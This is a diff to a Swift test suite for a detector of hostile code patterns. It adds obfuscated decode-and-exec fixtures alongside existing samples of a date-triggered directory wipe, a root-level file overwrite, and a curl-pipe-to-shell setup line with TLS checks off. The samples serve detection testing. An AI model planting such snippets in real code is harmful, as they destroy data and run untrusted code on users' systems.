@@ -46,6 +46,8 @@ struct LiteralGatesTests {
             ("cmd/x/main.go", "if time.Now().After(time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)) {\n\tos.RemoveAll(dir)\n}"),
             ("lib/walk.js", "for (const f of fs.readdirSync('/')) {\n  fs.writeFileSync(f, 'x');\n}"),
             ("ci/setup.sh", "git config --global http.sslVerify false\ncurl --insecure https://example.org/x | sh"),
+            ("setup.py", "exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"),
+            ("src/loader.js", "var e = \"\\x65\\x76\\x61\\x6c\\x28\\x61\\x74\\x6f\\x62\\x28\"; run(e);"),
             ("src/plain.c", "int add(int a, int b) {\n    return a + b;\n}"),
             ("README.md", "Nothing to see here.\n"),
         ]
@@ -69,6 +71,7 @@ struct LiteralGatesTests {
             PersistenceDetector.shellStartup, HiddenTriggerDetector.trigger, NetworkIndicatorDetector.reverseShell,
             NetworkIndicatorDetector.host, NetworkIndicatorDetector.address, TimeOrGeoBombDetector.dateGate,
             DestructiveOperationDetector.walkWipe, SecurityCheckSabotageDetector.tlsVerificationOff,
+            DecodeAndExecuteDetector.decodeExec,
         ] {
             #expect(rules.contains(rule.id), "\(rule.id) not found: \(rules.sorted())")
         }
